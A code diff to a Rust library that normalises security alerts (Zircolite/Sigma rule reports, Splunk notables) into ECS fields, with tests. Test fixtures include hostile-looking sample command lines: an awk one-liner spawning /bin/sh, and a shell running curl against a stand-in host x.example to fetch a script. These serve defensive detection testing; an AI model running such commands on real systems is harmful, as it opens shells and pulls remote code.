@@ -57,12 +57,9 @@ pub fn parse_text(text: &str) -> Vec<Result<Alert, BadAlert>> {
             Json::Array(items) => items
                 .into_iter()
                 .enumerate()
-                .map(|(i, d)| {
-                    let pos = format!("element {}", i + 1);
-                    from_json(d, &pos)
-                })
+                .flat_map(|(i, d)| from_json_expanded(d, &format!("element {}", i + 1)))
                 .collect(),
-            other => vec![from_json(other, "document")],
+            other => from_json_expanded(other, "document"),
         };
     }
     // JSON lines: each non-empty line is a document; a bad line is reported, the rest go on.
@@ -74,7 +71,7 @@ pub fn parse_text(text: &str) -> Vec<Result<Alert, BadAlert>> {
         }
         let pos = format!("line {}", i + 1);
         match serde_json::from_str::<Json>(l) {
-            Ok(d) => out.push(from_json(d, &pos)),
+            Ok(d) => out.extend(from_json_expanded(d, &pos)),
             Err(e) => out.push(Err(BadAlert {
                 position: format!("{pos}, column {}", e.column()),
                 reason: format!("not valid JSON: {e}"),
@@ -83,6 +80,49 @@ pub fn parse_text(text: &str) -> Vec<Result<Alert, BadAlert>> {
         }
     }
     out
+}
+
+/// Normalises one parsed document, or each event of a Sigma engine's rule report.
+pub fn from_json_expanded(doc: Json, position: &str) -> Vec<Result<Alert, BadAlert>> {
+    match rule_matches(doc) {
+        Ok(events) => events
+            .into_iter()
+            .enumerate()
+            .map(|(i, e)| from_json(e, &format!("{position}, match {}", i + 1)))
+            .collect(),
+        Err(doc) => vec![from_json(doc, position)],
+    }
+}
+
+/// Zircolite (and Sigma engines like it) report a rule once with every event it matched:
+/// `{"title", "id", "tags", "rule_level", …, "matches": [event, …]}`. Each event is an alert,
+/// carrying the rule under `rule` (as single Sigma matches do). Anything else is returned as is.
+fn rule_matches(doc: Json) -> Result<Vec<Json>, Json> {
+    let Json::Object(mut o) = doc else {
+        return Err(doc);
+    };
+    let is_rule = ["title", "rule_title", "sigmafile", "sigma"]
+        .iter()
+        .any(|k| o.contains_key(*k));
+    let events = match o.get("matches") {
+        Some(Json::Array(m)) if is_rule && !m.is_empty() && m.iter().all(Json::is_object) => {
+            m.len()
+        }
+        _ => return Err(Json::Object(o)),
+    };
+    let Some(Json::Array(matches)) = o.remove("matches") else {
+        return Err(Json::Object(o));
+    };
+    o.remove("count");
+    let rule = Json::Object(o);
+    let mut out = Vec::with_capacity(events);
+    for m in matches {
+        if let Json::Object(mut e) = m {
+            e.entry("rule").or_insert_with(|| rule.clone());
+            out.push(Json::Object(e));
+        }
+    }
+    Ok(out)
 }
 
 /// Normalises one parsed document.
@@ -535,7 +575,13 @@ fn splunk_cim(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
         "process.hash.sha256",
         text("process_hash").map(|h| h.trim_start_matches("SHA256=").to_owned()),
     );
-    set("destination.ip", text("dest_ip"));
+    // In a process notable `dest` is the endpoint itself, and `dest_ip` its address; only a
+    // network record (with a port, or without a host name) names a remote destination.
+    if text("dest_port").is_some() || text("dest").is_none() {
+        set("destination.ip", text("dest_ip"));
+    } else {
+        set("host.ip", text("dest_ip"));
+    }
     set("url.full", text("url"));
     if let Some(u) = text("user") {
         match u.split_once('\\') {
@@ -554,9 +600,12 @@ fn splunk_cim(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
             Some("windows")
         } else if l.contains("mac") || l.contains("os x") || l.contains("darwin") {
             Some("macos")
-        } else if ["linux", "ubuntu", "debian", "red hat", "rhel", "centos", "rocky", "alma", "suse", "amazon", "fedora"]
-            .iter()
-            .any(|k| l.contains(k))
+        } else if [
+            "linux", "ubuntu", "debian", "red hat", "rhel", "centos", "rocky", "alma", "suse",
+            "amazon", "fedora",
+        ]
+        .iter()
+        .any(|k| l.contains(k))
         {
             Some("linux")
         } else {
@@ -600,6 +649,7 @@ fn splunk_cim(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
     for (from, to) in [
         ("process_id", "process.pid"),
         ("parent_process_id", "process.parent.pid"),
+        ("dest_port", "destination.port"),
     ] {
         if let Some(n) = text(from).and_then(|v| v.parse::<i64>().ok()) {
             set_path(&mut e, to, Json::from(n));
@@ -1392,14 +1442,51 @@ mod tests {
     }
 
     #[test]
+    fn zircolite_rule_reports_give_one_alert_per_matched_event() {
+        let text = json!([{"title": "Shell Spawned via awk", "id": "9e2b71c4", "tags": ["attack.execution", "attack.t1059.004"],
+            "rule_level": "high", "count": 2, "matches": [
+                {"Image": "/usr/bin/awk", "CommandLine": "awk 'BEGIN {system(\"/bin/sh &\")}'", "User": "qa", "Computer": "mbp-1", "ParentImage": "/bin/sh"},
+                {"Image": "/usr/bin/awk", "CommandLine": "awk 'BEGIN {system(\"/bin/sh\")}'", "User": "qa", "Computer": "mbp-2"}]},
+            {"title": "no matches here", "matches": []}])
+        .to_string();
+        let out = parse_text(&text);
+        assert_eq!(
+            out.len(),
+            3,
+            "two events, and the empty report as itself: {out:?}"
+        );
+        let a = out[0].as_ref().unwrap();
+        assert_eq!(a.position, "element 1, match 1");
+        assert_eq!(a.doc["process"]["name"], "awk");
+        assert_eq!(a.doc["host"]["name"], "mbp-1");
+        assert_eq!(a.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
+        let b = out[1].as_ref().unwrap();
+        assert_eq!(b.position, "element 1, match 2");
+        assert_eq!(b.doc["host"]["name"], "mbp-2");
+        assert_ne!(a.id, b.id, "each event keeps its own identity");
+        assert!(
+            out[2].is_err(),
+            "a rule report without events is not an alert"
+        );
+    }
+
+    #[test]
     fn splunk_notables_sigma_matches_and_defender_alert_evidence_map_to_ecs() {
         let n = from_json(json!({"_time": "1739961218", "event_id": "E13@@notable@@ee4f", "search_name": "Endpoint - X - Rule",
             "annotations.mitre_attack": ["T1059.004"], "dest": "MBP-1", "user": "CORP\\lchen",
             "process": "/bin/sh -c curl -sk https://x.example/m.sh", "process_name": "sh", "process_path": "/bin/sh", "process_id": "15502",
             "parent_process": "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", "parent_process_name": "Microsoft Excel",
-            "parent_process_path": "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", "dest_os": "macOS 15.2"}), "x").unwrap();
+            "parent_process_path": "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", "dest_os": "macOS 15.2", "dest_ip": "10.1.2.3"}), "x").unwrap();
         assert_eq!(n.id, "E13@@notable@@ee4f");
-        assert_eq!(n.doc["host"]["os"]["type"], "macos", "from the asset's dest_os");
+        assert_eq!(
+            n.doc["host"]["os"]["type"], "macos",
+            "from the asset's dest_os"
+        );
+        assert_eq!(
+            n.doc["host"]["ip"], "10.1.2.3",
+            "a process notable's dest_ip is the endpoint's"
+        );
+        assert!(n.doc.get("destination").is_none());
         assert_eq!(n.doc["host"]["os"]["name"], "macOS 15.2");
         assert_eq!(
             n.doc["process"]["command_line"],
